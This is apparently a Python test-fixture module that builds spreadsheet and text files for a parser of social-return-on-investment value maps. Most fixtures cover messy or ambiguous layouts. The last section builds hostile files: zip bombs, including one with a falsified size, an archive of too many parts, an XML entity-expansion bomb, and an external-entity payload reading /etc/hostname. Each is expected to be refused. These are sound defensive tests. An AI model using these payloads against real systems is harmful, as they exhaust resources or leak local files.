    groups = tuple(replace(g, outcomes=tuple(replace(o, delay=0) for o in g.outcomes)) for g in base.groups)
    columns = [c for c in international_columns() if not c.field.startswith(("extra:", "year")) and c.field != "start"]
    columns += year_columns([f"Year {k}" for k in range(1, 6)], ("Calculating Social Return",), (None,), pounds)
    place = international_sheet(replace(base, groups=groups), columns)
    sheet, results = place.sheet, {}

    def formula(cell: str, text: str) -> None:
        results[cell] = sheet[cell].value
        sheet[cell] = "=" + text

    letter, first, last = place.letter, place.lines[0].row, place.last_row
    for line in place.lines:
        if line.outcome is None:
            continue
        row = line.row
        kept = "".join(f"*(1-{letter(name)}{row})" for name in ("deadweight", "displacement", "attribution"))
        formula(f"{letter('impact')}{row}", f"{letter('quantity')}{row}*{letter('value')}{row}{kept}")
        formula(f"{letter('year0')}{row}", f"{letter('impact')}{row}")
        for k in range(1, 5):
            before, duration = f"{letter(f'year{k - 1}')}{row}", f"${letter('duration')}{row}"
            formula(f"{letter(f'year{k}')}{row}", f"IF({duration}>{k},{before}*(1-${letter('drop_off')}{row}),0)")
    for name in ("amount", "impact", *(f"year{k}" for k in range(5))):
        formula(f"{letter(name)}{last + 1}", f"SUM({letter(name)}{first}:{letter(name)}{last})")
    rate = "$" + place.rate_cell[: -len("2")] + "$2" if place.rate_cell else ""
    for k in range(5):
        formula(f"{letter(f'year{k}')}{last + 2}", f"{letter(f'year{k}')}{last + 1}/(1+{rate})^{k + 1}")
    result = letter("year0")
    formula(f"{result}{last + 3}", f"SUM({result}{last + 2}:{letter('year4')}{last + 2})")
    formula(f"{result}{last + 4}", f"{result}{last + 3}-{letter('amount')}{last + 1}")
    formula(f"{result}{last + 5}", f"{result}{last + 3}/{letter('amount')}{last + 1}")
    return place, results


@fixture("planted_errors.xlsx")
def planted() -> tuple[Payload, dict[str, Any]]:
    """Three rows with one mistake each; totals and ratio follow the printed cells."""
    case = children_centre()
    work, confidence, _, nursery, referrals, _ = case.outcomes()
    without = referrals.impact() / (1 - referrals.attribution)
    printed: dict[tuple[str, str], Any] = {
        (confidence.name, "impact"): 83515.20,
        (work.name, "year2"): work.years(5)[1],
    }
    printed[referrals.name, "impact"] = without
    for k, value in enumerate(replace(referrals, attribution=0.0).years(5)):
        printed[referrals.name, f"year{k}"] = value
    place = international_sheet(replace(case, printed=printed))
    rows = {line.outcome.name: line.row for line in place.lines if line.outcome}
    impact = place.letter("impact")
    wrong = [
        {
            "row": rows[confidence.name],
            "outcome": confidence.name,
            "cells": {f"{impact}{rows[confidence.name]}": 83515.20},
            "right": confidence.impact(),
            "why": "wrong impact: typed in by hand; the year values are right and do not follow it",
        },
        {
            "row": rows[work.name],
            "outcome": work.name,
            "cells": {f"{place.letter('year2')}{rows[work.name]}": printed[work.name, "year2"]},
            "right": work.years(5)[2],
            "why": "wrong value in year 3: year 2 repeated, drop-off not applied",
        },
        {
            "row": rows[referrals.name],
            "outcome": referrals.name,
            "cells": {
                f"{impact}{rows[referrals.name]}": without,
                f"{place.letter('year0')}{rows[referrals.name]}": printed[referrals.name, "year0"],
                f"{place.letter('year1')}{rows[referrals.name]}": printed[referrals.name, "year1"],
            },
            "right": referrals.impact(),
            "why": "deduction not applied: attribution of 50% is printed but not deducted; the years "
            "follow the wrong impact",
        },
    ]
    right = case.totals(right=True)
    assert nursery.name in rows
    return place.sheet.parent, describe(
        place, wrong_rows=wrong, right_totals={name: right[name] for name in ("impact", "total_pv", "npv", "ratio")}
    )


def with_attribution(share_of_others: float) -> Case:
    """Every outcome with this attribution except the harm."""
    case = children_centre()
    groups = tuple(
        replace(
            group, outcomes=tuple(replace(o, attribution=share_of_others) if o.value > 0 else o for o in group.outcomes)
        )
        for group in case.groups
    )
    return replace(case, groups=groups)


def bare_columns(attribution: Column, results: bool) -> list[Column]:
    """One heading row without questions, with a chosen attribution column, with or without results."""
    columns = [
        column("stakeholder", "Stakeholder"),
        column("inputs", "Input"),
        column("amount", "Input value", form=pounds),
        column("name", "Outcome"),
        column("quantity", "Quantity"),
        column("duration", "Duration"),
        column("start", "Outcomes start"),
        column("proxy", "Financial proxy"),
        column("value", "Value", form=pounds),
        column("deadweight", "Deadweight", form=percent),
        column("displacement", "Displacement", form=percent),
        attribution,
        column("drop_off", "Drop-off", form=percent),
    ]
    if results:
        columns.append(column("impact", "Impact", form=pounds))
        columns += year_columns([f"Year {k}" for k in range(1, 6)], (), (), pounds)
    return columns


@fixture("attribution_unclear.xlsx")
def attribution_unclear() -> tuple[Payload, dict[str, Any]]:
    """Heading Attribution with 80% and no impact on the sheet: whose share it is cannot be told."""
    sheet = new_sheet("Sheet1")
    place = lay(sheet, with_attribution(0.8), bare_columns(column("attribution", "Attribution", form=percent), False))
    record = describe(place, to_ask=["Does attribution name the share of others (deducted) or our own share (kept)?"])
    for found in record["outcomes"]:
        share = found["attribution"]
        found |= {"attribution": None, "attribution_if_others": share, "attribution_if_own": 1 - share}
    return sheet.parent, record


@fixture("attribution_told_by_impact.xlsx")
def attribution_by_impact() -> tuple[Payload, dict[str, Any]]:
    """Heading Attribution only with 80%, but the impact shows that 80% is our own share and is kept."""
    sheet = new_sheet("Sheet1")
    case = with_attribution(0.2)
    place = lay(sheet, case, bare_columns(column("own_share", "Attribution", form=percent), True))
    foot(place, rate=fine_percent)
    return sheet.parent, describe(place, attribution_told_by="impact = quantity x value x … x attribution")


@fixture("attribution_own_share.xlsx")
def attribution_own() -> tuple[Payload, dict[str, Any]]:
    """Heading says that the share is our own."""
    sheet = new_sheet("Sheet1")
    heading = column("own_share", "Attribution (share of the change due to our project)", form=percent)
    place = lay(sheet, with_attribution(0.2), bare_columns(heading, True))
    foot(place, rate=percent_points)
    return sheet.parent, describe(place, attribution_told_by="heading")


@fixture("notations_sterling.xlsx")
def sterling() -> tuple[Payload, dict[str, Any]]:
    """Percentages as 0.25, 25% and 25 in one column, whole numbers in another; pounds as text, harms in brackets."""
    sheet = new_sheet("Map")
    base = children_centre()
    columns = []
    for item in bare_columns(column("attribution", "Attribution (caused by others)", form=percent_points), True):
        forms = {
            "deadweight": in_turn(percent, percent_text, percent_points),
            "displacement": percent_text,
            "drop_off": in_turn(percent_text, percent),
            "value": pounds_text,
            "amount": in_turn(pounds_text, pounds, two_decimals),
            "impact": pounds_text,
        }
        columns.append(
            replace(item, form=forms.get(item.field, pounds_text if item.field.startswith("year") else item.form))
        )
    place = lay(sheet, base, columns, top=2)
    sheet["A1"] = base.title
    foot(place, form=pounds_text, ratio="SROI ratio", ratio_text=lambda number: f"{number:.2f}:1", rate=percent_text)
    return sheet.parent, describe(place, printed_to=0.01, timing_told_by="row Present value of each year")


@fixture("notations_kroner.xlsx")
def kroner() -> tuple[Payload, dict[str, Any]]:
    """Norwegian notation throughout: 1 234,50 kr with no-break spaces, a true minus sign, 25 % with a space."""
    sheet = new_sheet("Verdikart")
    base = large_families()
    shares = {"deadweight", "displacement", "attribution", "drop_off"}
    columns = []
    for item in bare_columns(column("attribution", "Attribution % (caused by others)", form=percent_norwegian), True):
        if item.field in shares:
            columns.append(replace(item, form=percent_norwegian))
        elif item.field in {"value", "amount", "impact"} or item.field.startswith("year"):
            columns.append(replace(item, form=kroner_text))
        else:
            columns.append(item)
    place = lay(sheet, base, columns, top=3)
    sheet["A1"] = base.title
    discount_rate(place, 1, place.index("year0"), form=percent_norwegian)
    foot(place, form=kroner_text, ratio_text=lambda number: f"1 : {number:.2f}".replace(".", ","))
    return sheet.parent, describe(place, printed_to=0.01)


@fixture("percent_ambiguous.xlsx")
def percent_ambiguous() -> tuple[Payload, dict[str, Any]]:
    """Drop-off column of plain numbers 0, 1 and 0.5 without format or sign: 1 may be one per cent or all of it."""
    sheet = new_sheet("Map")
    base = children_centre()
    values = iter((0, 1, 0.5, 1, 0, 1))
    printed = {(o.name, "drop_off"): next(values) for o in base.outcomes()}
    columns = [
        replace(c, form=plain) if c.field == "drop_off" else c
        for c in bare_columns(column("attribution", "Attribution (caused by others)", form=percent), False)
    ]
    place = lay(sheet, replace(base, printed=printed), columns)
    record = describe(place, to_ask=["drop-off of 1: 1% or 100%?", "drop-off of 0.5: 0.5% or 50%?"])
    for found in record["outcomes"]:
        found["drop_off_printed"] = found.pop("drop_off")
        found["drop_off"] = 0 if found["drop_off_printed"] == 0 else None
    return sheet.parent, record


@fixture("extra_columns.xlsx")
def extra_columns() -> tuple[Payload, dict[str, Any]]:
    """Columns of their own: goal, local authority, evidence grade, notes, and substitution, which is deducted."""
    base = children_centre()
    groups = []
    for group in base.groups:
        outcomes = [
            replace(
                outcome,
                other_deductions={"substitution": 0.04 if outcome.value > 0 else 0.0},
                extra={"sdg": f"SDG {len(outcome.name) % 17 + 1}", "area": "Salford", "grade": "B",
                       "note": "Agreed at the steering group\nof 4 March; see minutes"},
            )
            for outcome in group.outcomes
        ]  # fmt: skip
        groups.append(replace(group, outcomes=tuple(outcomes)))
    columns = bare_columns(column("attribution", "Attribution % (others)", form=percent), True)
    at = next(k for k, item in enumerate(columns) if item.field == "drop_off")
    columns[at:at] = [column("other:substitution", "Substitution %", form=percent)]
    columns[1:1] = [column("extra:area", "Local authority"), column("extra:sdg", "SDG")]
    columns += [column("extra:grade", "Evidence grade"), column("extra:note", "Notes")]
    sheet = new_sheet("Map")
    place = lay(sheet, replace(base, groups=tuple(groups)), columns)
    sheet.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{place.last_row}"
    discount_rate(place, place.last_row + 8, 1, form=fine_percent)
    foot(place)
    return sheet.parent, describe(place, {"area": "tag", "sdg": "tag", "grade": "evidence grade", "note": "note"})


@fixture("repeated_headings.xlsx")
def repeated_headings() -> tuple[Payload, dict[str, Any]]:
    """Source and Value each twice, in one heading row without questions: only neighbours tell them apart."""
    columns = [
        column("stakeholder", "Stakeholders"),
        column("inputs", "Inputs"),
        column("amount", "Value", form=pounds),
        column("name", "Outcome"),
        column("change", "Description"),
        column("indicator", "Indicator"),
        column("source", "Source"),
        column("quantity", "Quantity"),
        column("duration", "Duration"),
        column("start", "Outcomes start"),
        column("proxy", "Financial proxy"),
        column("value", "Value", form=pounds),
        column("proxy_source", "Source"),
        *[Column(item.field, (item.texts[-2],), percent) for item in filter_columns()],
        column("impact", "Impact", form=pounds),
    ]
    sheet = new_sheet("Map")
    place = lay(sheet, children_centre(), columns)
    foot(place)
    return sheet.parent, describe(
        place,
        repeated_headings={
            "Value": ["value of the inputs", "value of one unit"],
            "Source": ["evidence for the quantity", "source of the financial proxy"],
        },
    )


@fixture("late_heading.xlsx")
def late_heading() -> tuple[Payload, dict[str, Any]]:
    """Title, logo gap, contents and notes above; headings in row 13 from column C; words of headings in the notes."""
    sheet = new_sheet("Impact map FINAL v7 (2)")
    base = livelihoods()
    sheet["C2"] = base.title
    sheet["C4"] = "Stakeholders, outcomes, quantity and deadweight were agreed in two workshops."
    sheet["C5"], sheet["D5"], sheet["E5"] = "Prepared by", "Evaluation team", "Duration"
    sheet["C6"], sheet["D6"] = "Discount rate", 0.035
    sheet["D6"].number_format = "0.0%"
    sheet["C8"], sheet["D8"] = "Deadweight", "see appendix 2"
    columns = bare_columns(column("attribution", "Attribution - others' share", form=percent), True)
    place = lay(sheet, base, columns, top=13, left=3)
    place.rate_cell = "D6"
    foot(place, empty_rows=2)
    return sheet.parent, describe(place)


@fixture("inputs_beside_stakeholders.xlsx")
def inputs_beside() -> tuple[Payload, dict[str, Any]]:
    """Several inputs per stakeholder beside its outcomes, sometimes more inputs than outcomes; nothing merged."""
    base = livelihoods()
    staff, customers, charity, partners = base.groups
    staff = replace(staff, inputs=(("One working day each", 72960), ("Travel", 4310.20), ("Room hire", 2875)))
    charity = replace(charity, inputs=(("Trainers", 41200), ("Materials", 17200)))
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    case = replace(base, groups=(staff, customers, charity, partners))
    place = lay(sheet, case, columns, merge=False)
    foot(place, rate=fine_percent)
    return sheet.parent, describe(
        place, notes=["Rows 4 and 7 to 9 hold inputs only", "Empty stakeholder cells repeat the one above"]
    )


@fixture("subtotals.xlsx")
def subtotals() -> tuple[Payload, dict[str, Any]]:
    """Sub-total rows after every stakeholder: counted as outcomes they would double the value."""
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    place = lay(sheet, children_centre(), columns, subtotals=True)
    rows = [row for row in range(2, place.last_row + 1) if str(sheet.cell(row, 1).value).startswith("Sub-total")]
    foot(place, total="Grand total")
    return sheet.parent, describe(
        place, subtotal_rows=rows, to_ask=["discount rate: not on the sheet"], implied_rate=0.035
    )


@fixture("gaps_and_error_cells.xlsx")
def gaps() -> tuple[Payload, dict[str, Any]]:
    """Cells nobody finished: #REF!, #DIV/0!, n/a, tbc, a dash for nothing, blanks where a share belongs."""
    base = children_centre()
    work, confidence, strain, nursery, referrals, skills = (outcome.name for outcome in base.outcomes())
    printed = {
        (work, "impact"): "#REF!",
        (confidence, "quantity"): "tbc",
        (confidence, "impact"): "#VALUE!",
        (strain, "deadweight"): "n/a",
        (nursery, "displacement"): "-",
        (referrals, "value"): None,
        (referrals, "impact"): "#DIV/0!",
        (skills, "attribution"): None,
    }
    sheet = new_sheet("Map")
    columns = [
        c for c in bare_columns(column("attribution", "Attribution (others)", form=percent), True)
        if not c.field.startswith("year")
    ]  # fmt: skip
    place = lay(sheet, replace(base, printed=printed), columns)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("#"):
                cell.data_type = "e"
    record = describe(place)
    record["gaps"] = [
        {"row": line.row, "outcome": line.outcome.name, "field": name, "cell": held}
        for line in place.lines
        if line.outcome
        for (outcome, name), held in printed.items()
        if outcome == line.outcome.name
    ]
    record["to_ask"] = ["every gap: what should stand there; only the dash may be read as 0"]
    return sheet.parent, record


@fixture("money_in_thousands.xlsx")
def money_in_thousands() -> tuple[Payload, dict[str, Any]]:
    """Inputs, impact and years in thousands of pounds as their headings say, the value of one unit in pounds."""
    base = children_centre()
    units = {"amount": "Input value (£000)", "impact": "Impact (£000)", "value": "Value (£)"}

    def thousands(value: Any) -> tuple[Any, str, str]:
        return value / 1000, "#,##0.0", f"{value / 1000:,.1f}"

    columns = []
    for item in bare_columns(column("attribution", "Attribution (others)", form=percent), True):
        if item.field in units:
            item = replace(item, texts=(units[item.field],), form=pounds if item.field == "value" else thousands)
        elif item.field.startswith("year"):
            item = replace(item, texts=(item.texts[0] + " (£000)",), form=thousands)
        columns.append(item)
    sheet = new_sheet("Map")
    place = lay(sheet, base, columns)
    foot(place, form=thousands, rate=fine_percent)
    return sheet.parent, describe(
        place,
        printed_in={"amount": 1000, "impact": 1000, "years": 1000, "totals": 1000, "value": 1},
        notes=["This record is in pounds; the cells hold thousandths of it, the ratio excepted"],
    )


@fixture("headings_repeated_half_way.xlsx")
def headings_half_way() -> tuple[Payload, dict[str, Any]]:
    """Two blocks below each other, each with its headings, as maps are cut for printing; totals at the end."""
    base = children_centre()
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    first = lay(sheet, replace(base, groups=base.groups[:2]), columns, top=2)
    put(sheet, 1, 1, "People")
    put(sheet, first.last_row + 2, 1, "Organisations")
    second = lay(sheet, replace(base, groups=base.groups[2:]), columns, top=first.last_row + 3)
    whole_map = replace_place(second, base, first)
    foot(whole_map, rate=fine_percent)
    return sheet.parent, describe(whole_map, blocks=[first.heading_rows[0], second.heading_rows[0]])


def replace_place(second: Place, case: Case, first: Place) -> Place:
    """Join two blocks to one place."""
    return replace(second, case=case, heading_rows=first.heading_rows, lines=first.lines + second.lines)


@fixture("hidden_rows.xlsx")
def hidden_rows() -> tuple[Payload, dict[str, Any]]:
    """A row filtered out of sight but still in the totals, and a hidden column with the drop-off."""
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    place = lay(sheet, children_centre(), columns, merge=False)
    foot(place, rate=fine_percent)
    row = next(line.row for line in place.lines if line.outcome and line.outcome.name.startswith("Settle"))
    sheet.row_dimensions[row].hidden = True
    sheet.column_dimensions[place.letter("drop_off")].hidden = True
    return sheet.parent, describe(
        place,
        hidden={"rows": [row], "columns": [place.letter("drop_off")]},
        told=f"Row {row} is hidden on the sheet but counts in its totals; it was read, and you should know.",
    )


def durations(part_years: str) -> tuple[Payload, dict[str, Any]]:
    """Durations of half years; the year columns tell how they were counted."""
    base = children_centre()
    lengths = iter((2.5, 0.5, 1, 3.25, 2, 1))
    groups = tuple(
        replace(group, outcomes=tuple(replace(o, duration=next(lengths)) for o in group.outcomes))
        for group in base.groups
    )
    place = international_sheet(replace(base, groups=groups, part_years=part_years))
    return place.sheet.parent, describe(place, part_years=part_years)


@fixture("duration_rounded_up.xlsx")
def duration_rounded_up() -> tuple[Payload, dict[str, Any]]:
    """Half a year counts as a whole one."""
    return durations("round-up")


@fixture("duration_pro_rata.xlsx")
def duration_pro_rata() -> tuple[Payload, dict[str, Any]]:
    """Half a year counts as half of one."""
    return durations("pro-rata")


# ---------------------------------------------------------------------------------------------------------------------
# Text files
# ---------------------------------------------------------------------------------------------------------------------


def text_map(case: Case, shares: Form, amounts: Form, point: str = ".") -> Place:
    """Map whose cells are all text as shown; of merged cells only the first holds it, as a spreadsheet program does."""
    columns = [
        replace(item, form=shares if item.form is percent else amounts if item.form is pounds else item.form)
        for item in template_columns(5)
    ]
    sheet = new_sheet("text")
    sheet["A1"] = "SROI- Impact Map"
    sheet["A2"] = case.title
    place = lay(sheet, case, columns, top=4)
    discount_rate(place, 2, place.index("year0"), form=shares)
    foot(place, form=amounts, ratio_text=lambda number: f"{number:.2f}".replace(".", point))
    return place


def delimited(sheet: Worksheet, delimiter: str, encoding: str, line_end: str = "\r\n") -> bytes:
    """Write a sheet as separated text."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    for row in sheet.iter_rows(values_only=True):
        writer.writerow(["" if value is None else value for value in row])
    return buffer.getvalue().encode(encoding)


@fixture("value_map.csv")
def comma_separated() -> tuple[Payload, dict[str, Any]]:
    """Comma separated with a byte order mark; commas inside quoted money."""
    place = text_map(children_centre(), percent_text, pounds_text)
    return delimited(place.sheet, ",", "utf-8-sig"), describe(
        place, encoding="utf-8-sig", delimiter=",", printed_to=0.01
    )


@fixture("value_map_semicolon.csv")
def semicolon_separated() -> tuple[Payload, dict[str, Any]]:
    """Semicolons and decimal commas in the Windows code page, as a Norwegian Excel saves it."""
    place = text_map(large_families(), percent_norwegian, kroner_text, ",")
    for row in place.sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = cell.value.replace(MINUS_SIGN, "-")
    return delimited(place.sheet, ";", "cp1252"), describe(place, encoding="cp1252", delimiter=";", printed_to=0.01)


@fixture("value_map_pasted.txt")
def pasted() -> tuple[Payload, dict[str, Any]]:
    """Tab-separated, as cells arrive when pasted; questions with line breaks are quoted."""
    place = text_map(livelihoods(), percent_bare_text, pounds_text)
    for row in place.sheet.iter_rows(max_row=place.heading_rows[-1]):
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = cell.value.replace("? ", "?\n")
    return delimited(place.sheet, "\t", "utf-8", "\n"), describe(
        place, encoding="utf-8", delimiter="tab", printed_to=0.01
    )


# ---------------------------------------------------------------------------------------------------------------------
# Packages written by hand
# ---------------------------------------------------------------------------------------------------------------------

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MEBIBYTE = 1 << 20


def package_parts() -> dict[str, bytes]:
    """Every part of a one-sheet workbook but the sheet."""
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/%s" Target="%s"/>'
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'
    texts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_TYPE}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": relations % ("officeDocument", "xl/workbook.xml"),
        "xl/_rels/workbook.xml.rels": relations % ("worksheet", "worksheets/sheet1.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="Map" sheetId="1" r:id="rId1"/></sheets></workbook>',
    }
    return {name: (DECLARATION + text).encode() for name, text in texts.items()}


def text_cell(reference: str, text: str) -> str:
    """A cell that holds its text itself."""
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_start() -> str:
    """Start of a sheet with a heading row and one outcome."""
    headings = ["Stakeholders", "Outcome", "Quantity", "Value", "Deadweight %", "Attribution %", "Impact"]
    row = "".join(text_cell(f"{get_column_letter(k)}1", text) for k, text in enumerate(headings, start=1))
    return f'{DECLARATION}<worksheet xmlns="{SPREADSHEET}"><sheetData><row r="1">{row}</row>'


SHEET_END = "</sheetData></worksheet>"


def crc_of_joined(first: int, second: int, second_length: int) -> int:
    """CRC-32 of two pieces joined, from their own CRCs: shift the first by the length of the second, in GF(2)."""

    def times(matrix: list[int], vector: int) -> int:
        product = 0
        for row in matrix:
            if not vector:
                break
            if vector & 1:
                product ^= row
            vector >>= 1
        return product

    shift = [0xEDB88320, *(1 << k for k in range(31))]
    for _ in range(3):
        shift = [times(shift, row) for row in shift]
    while second_length:
        if second_length & 1:
            first = times(shift, first)
        shift = [times(shift, row) for row in shift]
        second_length >>= 1
    return first ^ second


@dataclass
class Member:
    """A compressed member of an archive; ``claimed`` is the size that the archive states."""

    name: str
    packed: bytes
    crc: int
    claimed: int


def member(name: str, data: bytes) -> Member:
    """Compress a small member."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, packer.compress(data) + packer.flush(), zlib.crc32(data), len(data))


def repeating_member(
    name: str, start: bytes, block: bytes, times: int, end: bytes, claimed: int | None = None
) -> Member:
    """Compress ``start``, then ``block`` many times, then ``end``: the block once, its compressed form repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = [packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)]
    packed += [packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)] * times
    packed.append(packer.compress(end) + packer.flush())
    crc, block_crc = zlib.crc32(start), zlib.crc32(block)
    power, power_crc, left, length = len(block), block_crc, times, 0
    joined = 0
    while left:
        if left & 1:
            joined = crc_of_joined(joined, power_crc, power) if length else power_crc
            length += power
        power_crc, power, left = crc_of_joined(power_crc, power_crc, power), power * 2, left >> 1
    crc = crc_of_joined(crc_of_joined(crc, joined, length), zlib.crc32(end), len(end))
    return Member(name, b"".join(packed), crc, len(start) + length + len(end) if claimed is None else claimed)


def archive(members: Iterable[Member]) -> bytes:
    """Write a zip archive from members that are compressed already."""
    body, directory, count = bytearray(), bytearray(), 0
    for item in members:
        name = item.name.encode()
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x5A21, item.crc, len(item.packed), item.claimed, len(name), 0)
        directory += struct.pack("<IH", 0x02014B50, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name
        body += struct.pack("<I", 0x04034B50) + common + name + item.packed
        count += 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


def hand_made(sheet: Member) -> bytes:
    """One-sheet workbook around a sheet that is compressed already."""
    return archive([*(member(name, data) for name, data in package_parts().items()), sheet])


def as_bytes(workbook: Workbook) -> bytes:
    """Save a workbook to memory."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite(workbook: bytes, change: Callable[[str, bytes], bytes], add: dict[str, bytes] | None = None) -> bytes:
    """Pass every part of a package through ``change`` and add further parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return buffer.getvalue()


def with_stored_results(workbook: bytes, results: dict[str, float | str]) -> bytes:
    """Store results beside the formulas of the only sheet, as a spreadsheet program does."""

    def store(match: re.Match[str]) -> str:
        reference, rest, formula = match.groups()
        value = results[reference]
        kind = ' t="str"' if isinstance(value, str) else ""
        return f'<c r="{reference}"{rest}{kind}><f>{formula}</f><v>{value if kind else repr(value)}</v></c>'

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        pattern = r'<c r="([A-Z]+\d+)"((?: s="\d+")?)><f>([^<]*)</f><v ?/?>(?:</v>)?</c>'
        return re.sub(pattern, store, data.decode()).encode()

    return rewrite(workbook, change)


def compound_file(streams: dict[str, bytes]) -> bytes:
    """Write an OLE compound file, the container of old Excel files and of password-protected new ones."""
    free, end_of_chain, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat, body, entries = [fat_sector, end_of_chain], b"", []
    for name, data in streams.items():
        data = data.ljust(4096, b"\0")
        count = -(-len(data) // 512)
        start = len(fat)
        fat += [*range(start + 1, start + count), end_of_chain]
        body += data.ljust(count * 512, b"\0")
        entries.append((name, 2, start, len(data)))
    directory = b""
    for place, (name, kind, start, size) in enumerate([("Root Entry", 5, end_of_chain, 0), *entries][:4]):
        text = (name + "\0").encode("utf-16-le")
        right = place + 1 if 0 < place < len(entries) else free
        child = 1 if place == 0 and entries else free
        directory += struct.pack("<64sHBBIII", text, len(text), kind, 1, free, right, child)
        directory += bytes(36) + struct.pack("<IQ", start, size)
    fat += [free] * (128 - len(fat))
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0, 0) + b"\xff" * (108 * 4)
    return header.ljust(512, b"\xff") + struct.pack("<128I", *fat) + directory.ljust(512, b"\0") + body


# ---------------------------------------------------------------------------------------------------------------------
# Files nobody should send
# ---------------------------------------------------------------------------------------------------------------------


def hostile(result: str, told: str, **facts: Any) -> dict[str, Any]:
    """Record what should happen to a hostile file and what the user should be told."""
    return {"kind": "hostile", "result": result, "told": told, **facts}


def small_map() -> Place:
    """A sound map of which only one thing will be spoilt."""
    sheet = new_sheet("Map")
    place = lay(
        sheet, children_centre(), bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    )
    foot(place)
    return place


@fixture("zip_bomb.xlsx")
def zip_bomb() -> tuple[Payload, dict[str, Any]]:
    """About a megabyte that unpacks to 1.2 GB of empty rows, all of it sound XML and a right checksum."""
    rows = b"<row/>" * (MEBIBYTE // 6)
    sheet = repeating_member("xl/worksheets/sheet1.xml", sheet_start().encode(), rows, 1200, SHEET_END.encode())
    return hand_made(sheet), hostile(
        "refused", "The file unpacks to far more than a value map needs (over 1 GB), so it was not opened.",
        unpacked_bytes=sheet.claimed,
    )  # fmt: skip


@fixture("zip_bomb_hidden_size.xlsx")
def zip_bomb_hidden_size() -> tuple[Payload, dict[str, Any]]:
    """The same bomb whose archive claims that the sheet has 4,000 bytes."""
    rows = b"<row/>" * (MEBIBYTE // 6)
    sheet = repeating_member("xl/worksheets/sheet1.xml", sheet_start().encode(), rows, 1200, SHEET_END.encode(), 4000)
    return hand_made(sheet), hostile(
        "refused", "The file is damaged or made to mislead: what it holds is not what its contents list says.",
        claimed_bytes=4000,
    )  # fmt: skip


@fixture("too_many_parts.xlsx")
def too_many_parts() -> tuple[Payload, dict[str, Any]]:
    """Thousands of small parts: each harmless, together too many."""
    parts = [*package_parts().items(), ("xl/worksheets/sheet1.xml", (sheet_start() + SHEET_END).encode())]
    one = member("xl/media/0.png", bytes(64))
    extra = (replace_name(one, f"xl/media/{k}.png") for k in range(12000))
    return archive([*(member(*part) for part in parts), *extra]), hostile(
        "refused", "The file holds over 12,000 parts; a workbook has a few dozen.", parts=12005
    )


def replace_name(item: Member, name: str) -> Member:
    """Same content under another name."""
    return Member(name, item.packed, item.crc, item.claimed)


@fixture("entity_bomb.xlsx")
def entity_bomb() -> tuple[Payload, dict[str, Any]]:
    """A document type with entities that unfold to a thousand million letters."""
    levels = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 10))
    text = sheet_start().replace("\n", f'\n<!DOCTYPE worksheet [<!ENTITY e0 "lol">{levels}]>', 1)
    text += '<row r="2"><c r="A2" t="inlineStr"><is><t>&e9;</t></is></c></row>' + SHEET_END
    return hand_made(member("xl/worksheets/sheet1.xml", text.encode())), hostile(
        "refused", "The file defines its own XML entities, which no spreadsheet program does."
    )


@fixture("outside_entity.xlsx")
def outside_entity() -> tuple[Payload, dict[str, Any]]:
    """An entity that points to a file of the reading computer."""
    text = sheet_start().replace("\n", '\n<!DOCTYPE worksheet [<!ENTITY file SYSTEM "file:///etc/hostname">]>', 1)
    text += '<row r="2"><c r="A2" t="inlineStr"><is><t>&file;</t></is></c></row>' + SHEET_END
    return hand_made(member("xl/worksheets/sheet1.xml", text.encode())), hostile(
